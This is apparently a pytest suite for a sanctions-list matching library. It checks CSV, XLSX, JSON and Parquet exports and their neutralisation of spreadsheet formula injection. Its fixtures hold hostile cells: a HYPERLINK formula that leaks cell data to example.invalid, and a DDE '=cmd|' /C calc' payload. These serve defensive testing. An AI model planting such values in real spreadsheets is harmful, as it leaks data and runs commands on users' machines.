"""Links files: the four formats, their round trip, and spreadsheet formula injection."""

from __future__ import annotations

import csv
import json
from dataclasses import replace
from pathlib import Path

import pytest

import gmmatch
from gmmatch.export import (
    FORMULA_STARTS,
    LINK_FORMATS,
    links_table,
    neutralize,
    read_links,
    restore,
    write_links,
)
from gmmatch.link import link
from gmmatch.records import ReadError

EXAMPLES = Path(__file__).resolve().parents[1] / "examples"

# Cells a spreadsheet would run: each must come out as text.
HOSTILE = {
    "source_org": '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "remarks": "+1+1",
}
HOSTILE_NAMES = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1:A2)", "'Already Quoted"]
# Readers trim names, so a leading tab or carriage return is put straight into the pairs.
TAB_NAME, CR_TEXT = "\t=KARIMOVA, Gulnara", "\r+1 fictional org"


@pytest.fixture(scope="module")
def linked():
    """The example recommendations, plus hostile records, linked to the example list."""
    rows = gmmatch.read_records(EXAMPLES / "recommendations.csv").to_pandas()
    records = [
        {"id": r["id"], "name": r["name"], "entity_type": r["entity_type"], "dob": list(r["dob"]),
         "nationality": list(r["nationality"]), "recommended_on": r["recommended_on"],
         "source_org": r["source_org"]}
        for r in rows.to_dict("records")
    ]
    records[0]["source_org"] = HOSTILE["source_org"]  # Yahya Jammeh: a match row
    records += [{"id": f"HOSTILE-{i}", "name": name, "recommended_on": "2020-01-01"}
                for i, name in enumerate(HOSTILE_NAMES)]
    recs = gmmatch.read_records(records)
    listed = gmmatch.read_sdn(EXAMPLES / "glomag" / "2024-05-03")
    result = link(recs, listed)
    pairs = result.pairs.copy()
    karimova = pairs["record_id"] == "REC-002"
    pairs.loc[karimova, "list_name"] = TAB_NAME
    pairs.loc[karimova, "record_source_org"] = CR_TEXT
    return replace(result, pairs=pairs), recs


def test_neutralize_and_restore_are_inverse():
    for text in [*HOSTILE_NAMES, "plain", "", "''twice", "=", "-", "Ōsaka"]:
        safe = neutralize(text)
        assert restore(safe) == text
        if text and text[0] in FORMULA_STARTS:
            assert safe.startswith("'")
    assert neutralize(-3.5) == -3.5 and neutralize(None) is None


def test_table_has_names_evidence_explanation_and_no_match_rows(linked):
    result, recs = linked
    table = links_table(result, recs)
    assert {"record_name", "list_name", "name_evidence", "dob_evidence", "explanation",
            "record_recommended_on", "record_entity_type", "list_entity_type",
            "list_programs"} <= set(table.columns)
    jammeh = table[table["record_id"] == "REC-001"].iloc[0]
    assert jammeh["status"] == "match" and jammeh["list_id"] == "95001"
    assert "JAMMEH" in jammeh["explanation"]
    assert "GLOMAG" in jammeh["list_programs"]
    # an invented person gets one `no match` row, no list entry
    invented = table[table["record_id"] == "REC-010"]
    assert list(invented["status"]) == ["no match"] and invented["list_id"].isna().all()
    assert set(table["record_id"]) == set(recs.table["id"].to_pylist())


@pytest.mark.parametrize("suffix", LINK_FORMATS)
def test_every_format_reads_back(linked, tmp_path, suffix):
    result, recs = linked
    path = write_links(result, tmp_path / f"links{suffix}", records=recs)
    back = read_links(path)
    expected = result.matches[["record_id", "list_id"]].values.tolist()
    assert back.matches[["record_id", "list_id"]].values.tolist() == expected
    assert len(back.records) == len(recs)
    # the hostile texts come back exactly as they were
    names = dict(zip(back.table["record_id"], back.table["record_name"], strict=True))
    for i, name in enumerate(HOSTILE_NAMES):
        assert names[f"HOSTILE-{i}"] == name
    org = back.table.loc[back.table["record_id"] == "REC-001", "record_source_org"].iloc[0]
    assert org == HOSTILE["source_org"]
    karimova = back.table[back.table["record_id"] == "REC-002"].iloc[0]
    cr_text = CR_TEXT.replace("\r", "\n") if suffix == ".xlsx" else CR_TEXT  # XML has no CR
    assert (karimova["list_name"], karimova["record_source_org"]) == (TAB_NAME, cr_text)
    # explanations are the ones LinkResult gives
    (_, text), *_ = back.explain("REC-001")
    assert text == result.explain("REC-001", "95001")
    assert back.matches["match_probability"].min() >= result.threshold


def test_csv_cells_are_neutralized(linked, tmp_path):
    result, recs = linked
    path = write_links(result, tmp_path / "links.csv", records=recs)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    _assert_no_formula(cell for row in rows for cell in row)
    flat = [cell for row in rows for cell in row]
    assert "'=cmd|' /C calc'!A0" in flat
    assert "'" + HOSTILE["source_org"] in flat
    assert "''Already Quoted" in flat
    assert "'" + TAB_NAME in flat and "'" + CR_TEXT in flat


def test_xlsx_cells_are_neutralized(linked, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    result, recs = linked
    path = write_links(result, tmp_path / "links.xlsx", records=recs)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["links", "about"]
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
    _assert_no_formula(c.value for c in cells if isinstance(c.value, str))
    values = {c.value for c in cells}
    assert "'+SUM(1,2)" in values and "'@SUM(A1:A2)" in values
    # XML stores a carriage return as a line feed: still text, still behind the apostrophe
    assert "'" + TAB_NAME in values and "'" + CR_TEXT.replace("\r", "\n") in values
    # numbers stay numbers
    rows = list(book["links"].iter_rows(values_only=True))
    status, probability = rows[0].index("status"), rows[0].index("match_probability")
    assert all(isinstance(r[probability], float) for r in rows[1:] if r[status] == "match")


def _assert_no_formula(cells):
    for cell in cells:
        if cell and cell[0] in FORMULA_STARTS:
            float(cell)  # only a plain number (a negative weight) may start with '-'


def test_json_keeps_lists_and_metadata(linked, tmp_path):
    result, recs = linked
    path = write_links(result, tmp_path / "links.json", records=recs)
    document = json.loads(path.read_text(encoding="utf-8"))
    assert document["gmmatch"]["threshold"] == result.threshold
    first = document["links"][0]
    assert isinstance(first["list_programs"], list)


def test_parquet_keeps_every_pair_and_the_records(linked, tmp_path):
    result, recs = linked
    path = write_links(result, tmp_path / "links.parquet", records=recs)
    back = read_links(path)
    assert back.result is not None and len(back.result.pairs) == len(result.pairs)
    assert len(back.records) == len(recs)  # records without any pair are kept too


def test_errors_name_the_file(tmp_path, linked):
    result, _ = linked
    with pytest.raises(ValueError, match=r"links\.txt"):
        write_links(result, tmp_path / "links.txt")
    other = tmp_path / "other.csv"
    other.write_text("a,b\n1,2\n", encoding="utf-8")
    with pytest.raises(ReadError, match=r"other\.csv.*not a gmmatch links file"):
        read_links(other)
    with pytest.raises(ReadError, match="no such file"):
        read_links(tmp_path / "missing.csv")


def test_reading_problems_go_with_the_links_where_the_format_has_room(tmp_path):
    (tmp_path / "recs.csv").write_text(
        "id,name,dob,nationality\n"
        "r1,Gulnara Karimova,31/02/1972,Uzbekistan\n"
        "r2,,1960,Russia\n"                              # no name: skipped
        "r3,Emmerson Mnangagwa,1942,=HYPERLINK(\"x\")\n",  # a formula, kept unread
        encoding="utf-8")
    records = gmmatch.read_records(tmp_path / "recs.csv")
    result = link(records, gmmatch.read_sdn(EXAMPLES / "glomag" / "2024-05-03"))
    expected = [(p.record_id, p.field, p.action) for p in records.problems]
    assert ("r2", "name", "skipped") in expected and len(expected) == 3

    xlsx = write_links(result, tmp_path / "links.xlsx", records=records)
    import openpyxl

    rows = list(openpyxl.load_workbook(xlsx)["problems"].iter_rows(values_only=True))
    assert rows[0] == ("location", "record_id", "field", "value", "reason", "action")
    assert [(r[1], r[2], r[5]) for r in rows[1:]] == expected
    assert "'=HYPERLINK(\"x\")" in [r[3] for r in rows[1:]]   # as text, never a formula
    document = json.loads(write_links(result, tmp_path / "links.json",
                                      records=records).read_text())
    assert [(p["record_id"], p["field"], p["action"]) for p in document["problems"]] == expected
    for path in (xlsx, tmp_path / "links.json"):   # the links read back as before
        assert set(read_links(path).table["record_id"]) == {"r1", "r3"}
    # no problems, no sheet
    clean = gmmatch.read_records([{"id": "a", "name": "Gulnara Karimova"}])
    bare = write_links(link(clean, gmmatch.read_sdn(EXAMPLES / "glomag" / "2024-05-03")),
                       tmp_path / "clean.xlsx", records=clean)
    assert openpyxl.load_workbook(bare).sheetnames == ["links", "about"]
